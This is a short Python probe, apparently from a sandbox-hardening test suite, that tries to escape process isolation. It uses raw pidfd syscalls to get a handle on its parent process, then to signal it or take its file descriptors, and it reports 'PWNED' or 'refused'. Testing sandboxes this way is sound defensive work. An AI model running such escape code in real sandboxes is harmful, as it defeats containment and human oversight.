# attack: pidfd-of-the-parent
# layer: os (assumes the language layer is already broken: run as plain Python)
# class: signal
# success: a handle of its parent, to signal it or to take its descriptors
import ctypes
libc = ctypes.CDLL(None, use_errno=True)

import os
def run():
    handle = libc.syscall(434, os.getppid(), 0)
    if handle < 0:
        return "refused errno %d" % ctypes.get_errno()
    return "PWNED" if libc.syscall(424, handle, 0, None, 0) == 0 or libc.syscall(438, handle, 0, 0) >= 0 else "refused errno %d" % ctypes.get_errno()
